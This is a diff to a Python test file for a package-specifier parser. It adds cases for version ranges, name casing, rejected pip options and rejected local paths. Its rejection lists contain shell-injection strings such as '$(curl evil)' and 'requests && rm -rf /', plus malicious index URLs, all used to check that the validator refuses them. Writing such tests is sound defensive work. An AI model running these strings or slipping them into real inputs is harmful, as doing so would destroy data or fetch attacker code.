@@ -24,6 +24,7 @@ def test_version_ranges_with_commas_stay_one_entry() -> None:
     """``pandas>=2,<3`` is one requirement, not ``pandas>=2`` and ``<3``."""
     assert parse_packages("pandas>=2,<3") == ["pandas<3,>=2"]
     assert parse_packages("pandas>=2,<3,requests") == ["pandas<3,>=2", "requests"]
+    assert parse_packages("pandas>=2,<3, requests") == ["pandas<3,>=2", "requests"]
     assert parse_packages("numpy~=1.26, !=1.26.1, pandas==2.2.2") == ["numpy!=1.26.1,~=1.26", "pandas==2.2.2"]
 
 
@@ -34,6 +35,7 @@ def test_lists_are_accepted_and_the_result_is_sorted_and_normalised() -> None:
         "requests>=2.31",
     ]
     assert parse_packages(("attrs",)) == ["attrs"]
+    assert parse_packages(["Unidecode==1.3.8"]) == ["Unidecode==1.3.8"]
 
 
 def test_extras_and_markers_are_kept() -> None:
@@ -58,8 +60,10 @@ def test_direct_urls_are_accepted_when_allowed() -> None:
     "entry",
     [
         "--index-url=http://evil.example/simple",
+        "--index-url=http://evil/simple",
         "--extra-index-url http://evil.example/simple",
         "-e git+https://github.com/x/y",
+        "-e git+https://x/y",
         "-r requirements.txt",
         "--pre",
     ],
@@ -88,6 +92,7 @@ def test_pip_option_after_a_comma_is_rejected() -> None:
     [
         "requests`whoami`",
         "$(curl evil.example)",
+        "$(curl evil)",
         "requests && rm -rf /",
         "requests | sh",
         "requests$HOME",
@@ -114,7 +119,17 @@ def test_semicolon_command_is_not_a_valid_marker() -> None:
 
 @pytest.mark.parametrize(
     "entry",
-    ["./x", "../pkgs/x", "/x", "/opt/wheels/pkg-1.0-py3-none-any.whl", "~/pkg", "file:///opt/pkg", "FILE:/x"],
+    [
+        "./x",
+        "./mypkg",
+        "../pkgs/x",
+        "/x",
+        "/opt/pkg.whl",
+        "/opt/wheels/pkg-1.0-py3-none-any.whl",
+        "~/pkg",
+        "file:///opt/pkg",
+        "FILE:/x",
+    ],
 )
 def test_local_paths_are_rejected(entry: str) -> None:
     with pytest.raises(ByoPackageError) as raised:
